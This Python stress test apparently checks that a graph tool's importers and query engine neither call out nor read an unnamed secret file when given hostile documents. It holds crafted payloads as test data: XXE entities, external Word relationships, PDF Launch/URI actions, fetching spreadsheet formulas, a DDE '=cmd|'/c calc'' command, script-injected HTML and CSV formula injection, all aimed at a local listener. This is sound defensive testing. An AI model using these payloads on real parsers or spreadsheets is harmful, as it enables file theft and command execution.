"""Whatever is asked or brought in: nothing comes to a listener on this machine, and no file is read that was not named."""

from __future__ import annotations

import re
import subprocess
import sys
import tempfile
import time
import zipfile
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import ROOT, WORLD
from tests.stress.found import tell
from tests.stress.processes import STRACE, environment, needs_strace, run
from tests.web.test_hostile import OUTWARD, listener

SECRET = "a-secret-that-nobody-named"
MAPPING = '[[rows]]\ntable = "entities"\nentity_id = "x-{row}"\ntypes = "Site"\nlabel = { column = "Name" }\n'

# What is brought in as a document or a spreadsheet, and would have its reader fetch {u} or read {f}.
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "{u}"><!ENTITY f SYSTEM "file://{f}"><!ENTITY % p SYSTEM "{u}p"> %p;]>'
WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:r><w:t>{t}</w:t></w:r></w:p></w:body></w:document>'
RELATION = '<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{k}" Target="{t}" TargetMode="External"/>'


def word(path: Path, address: str, file: str, *, entities: bool) -> None:
    """A Word file that wants a template, a picture and a frame from elsewhere; or one with entities."""
    import docx

    docx.Document().save(str(path))
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    body = WORD.format(t="&e;&f;" if entities else "Words.")
    parts["word/document.xml"] = ((XXE.format(u=address, f=file) if entities else "") + body).encode()
    if not entities:
        kinds = enumerate(
            (("attachedTemplate", address), ("image", address), ("frame", address), ("oleObject", f"file://{file}")),
            900,
        )
        more = "".join(RELATION.format(n=n, k=kind, t=target) for n, (kind, target) in kinds).encode()
        name = "word/_rels/document.xml.rels"
        parts[name] = parts[name].replace(b"</Relationships>", more + b"</Relationships>")
    with zipfile.ZipFile(path, "w") as new:
        for name, content in parts.items():
            new.writestr(name, content)


def sheet(path: Path, address: str, file: str, *, entities: bool) -> None:
    """A workbook with formulas that fetch, links and an external book; or one with entities."""
    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page.append(["Name"])
    for formula in (
        f'=WEBSERVICE("{address}")',
        f'=HYPERLINK("{address}")',
        f"='file://{file}'#$Sheet1.A1",
        f'=IMPORTXML("{address}","//a")',
        "=cmd|'/c calc'!A1",
    ):
        page.append([formula])
    page["A2"].hyperlink = address
    book.save(path)
    if entities:
        with zipfile.ZipFile(path) as old:
            parts = {name: old.read(name) for name in old.namelist()}
        name = "xl/worksheets/sheet1.xml"
        parts[name] = XXE.format(u=address, f=file).encode() + parts[name].replace(b"Name", b"&e;&f;")
        with zipfile.ZipFile(path, "w") as new:
            for part, content in parts.items():
                new.writestr(part, content)


def text(content: str) -> Callable[[Path, str, str], None]:
    return lambda path, address, file: path.write_text(content.format(u=address, f=file), encoding="utf-8")  # type: ignore[func-returns-value]


PDF = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({u})>>/AA<</O<</S/Launch/F({f})>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R/MediaBox[0 0 9 9]>>endobj\n4 0 obj<</Length 0/F({f})/FFilter/FlateDecode>>stream\n\nendstream endobj\ntrailer<</Root 1 0 R>>\n"
BROUGHT: dict[str, tuple[str, Callable[[Path, str, str], None]]] = {
    "a Word file with relations elsewhere": ("a.docx", lambda path, u, f: word(path, u, f, entities=False)),
    "a Word file with entities": ("b.docx", lambda path, u, f: word(path, u, f, entities=True)),
    "a PDF that opens and launches": ("c.pdf", text(PDF)),
    "Markdown with pictures and includes": ("d.md", text("# A\n\n![x]({u}) <img src='{u}'> [b](file://{f})\n\n{{{{include {f}}}}}\n")),
    "HTML by the name of a text": ("e.txt", text("<script src='{u}'></script><iframe src='file://{f}'></iframe>\n")),
    "a workbook with formulas and links": ("f.xlsx", lambda path, u, f: sheet(path, u, f, entities=False)),
    "a workbook with entities": ("g.xlsx", lambda path, u, f: sheet(path, u, f, entities=True)),
    "a list with addresses for names": ("h.csv", text("Name\n{u}\nfile://{f}\n=WEBSERVICE(\"{u}\")\n@import url({u})\n")),
}  # fmt: skip


def words_for(path: Path) -> tuple[str, ...]:
    if path.suffix in (".xlsx", ".csv"):
        return ("import", str(path), "--mapping", str(path.parent / "map.toml"), "--data", "tables")
    return (
        "source",
        "add",
        str(path),
        "--id",
        path.stem,
        "--title",
        "T",
        "--kind",
        "report",
        "--print",
        "--data",
        "tables",
        "--documents",
        "documents",
    )


def ground(folder: Path) -> Path:
    import shutil

    shutil.copytree(WORLD, folder / "tables")
    (folder / "documents").mkdir()
    (folder / "map.toml").write_text(MAPPING, encoding="utf-8")
    secret = folder / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    return secret


def watched(*words: str, env: dict[str, str], cwd: Path) -> tuple[str, list[str]]:
    """Runs a command under strace; returns what it wrote, and the system calls that went to an internet address or the secret."""
    with tempfile.NamedTemporaryFile("r", encoding="utf-8", errors="replace") as log:
        trace = (
            str(STRACE),
            "-f",
            "-q",
            "--seccomp-bpf",
            "-o",
            log.name,
            "-e",
            "trace=connect,sendto,sendmsg,open,openat,openat2",
        )
        done = run(*words, env=env, cwd=cwd, before=trace)
        lines = [line for line in log.read().splitlines() if re.search(r"AF_INET|secret\.txt", line)]
    assert "Traceback" not in done.err, done.err
    return done.out + done.err, lines


@needs_strace
@pytest.mark.stress
@pytest.mark.timeout(900)
def test_no_attack_goes_out_or_reads_a_file(tmp_path: Path) -> None:
    secret = ground(tmp_path)
    env = environment(tmp_path / "state")
    assert run("build", "--data", "tables", env=env, cwd=tmp_path).code == 0
    found: Counter[str] = Counter()
    with listener() as (port, came):
        address = f"http://127.0.0.1:{port}/"
        attacks: list[tuple[str, ...]] = [
            ("query", "-t", query.format(u=address, p=port).replace("/etc/passwd", str(secret)), "--data", "tables")
            for query in OUTWARD
        ]
        for name, write in BROUGHT.values():
            write(tmp_path / name, address, str(secret))
            attacks.append(words_for(tmp_path / name))
        assert watched("query", str(secret), "--data", "tables", env=env, cwd=tmp_path)[1], (
            "a file that is named is seen to be read"
        )
        for words in attacks:
            said, calls = watched(*words, env=env, cwd=tmp_path)
            assert SECRET not in said, words
            assert calls == [], (words, calls)
            found["nothing went out, no file was read"] += 1
        time.sleep(0.3)
        assert came == []
    assert sum(found.values()) >= 38
    tell(
        "S3",
        "queries, documents and spreadsheets that would call out or read a file, each watched by system call",
        found,
    )


def test_the_kernels_wall_alone_holds(tmp_path: Path) -> None:
    """Without the look at the text: the engine is given every attack, in a process with the walls up."""
    with listener() as (port, came):
        address = f"http://127.0.0.1:{port}/"
        program = (
            "import os, sys\nfrom graph.questions.walls import raise_walls\nassert raise_walls(os.getppid())\n"
            "from graph.oxigraph import Store\nstore, ran = Store(), 0\n"
            "for query in sys.stdin.read().split('\\0'):\n"
            "    try:\n        ran += 1\n        list(store.query(query))\n    except Exception:\n        pass\nprint(ran)"
        )
        queries = "\0".join(query.format(u=address, p=port) for query in OUTWARD)
        done = subprocess.run(
            [sys.executable, "-c", program], input=queries, cwd=ROOT, capture_output=True, text=True, check=False
        )
        assert (done.returncode, int(done.stdout)) == (0, len(OUTWARD)), done.stderr
        time.sleep(0.2)
        assert came == []
